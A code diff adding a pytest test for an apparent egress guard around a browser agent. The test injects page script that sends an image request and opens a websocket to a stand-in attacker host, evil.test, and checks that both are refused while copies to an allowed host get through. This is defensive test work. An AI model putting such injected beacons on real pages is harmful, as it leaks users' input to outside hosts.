@@ -93,3 +93,27 @@ def test_sync_routes_do_not_remove_or_pass_the_gate(sync_page: Page, site: Local
             page.hover("body")
     page.goto("http://other.test/landing?c=sync-routes-twin")
     assert "http://other.test/landing?c=sync-routes-twin" in seen
+
+
+@pytest.mark.parametrize("dest", ["evil.test", "other.test"])
+def test_sync_subresource_and_websocket(sync_page: Page, site: LocalSite, dest: str) -> None:
+    """Under the sync API too: an image and a websocket to a refused host are refused (the
+    websocket is reported to the agent), their twins to an allowed host arrive."""
+    page = Guard(POLICIES, goal="Use the app.").wrap(sync_page)
+    mark = f"sync-egress-{dest}"
+    body = (
+        '<input id="q"><script>document.getElementById("q").addEventListener("input", () => {'
+        f" new Image().src = 'http://{dest}/i.png?c={mark}';"
+        f" window.ws = new WebSocket('ws://{dest}/ws?c={mark}'); }}, {{once: true}});</script>"
+    )
+    page.goto(_page(site, mark, body))
+    page.fill("#q", "x")
+    page.wait_for_timeout(800)
+    if dest == "evil.test":
+        assert _reached(site, "evil.test", mark) == []
+        with pytest.raises(ActionBlocked) as caught:
+            page.hover("body")
+        assert caught.value.verdict.findings[0].evidence["action"] == "websocket"
+    else:
+        assert len(_reached(site, "other.test", mark)) == 2
+        page.hover("body")
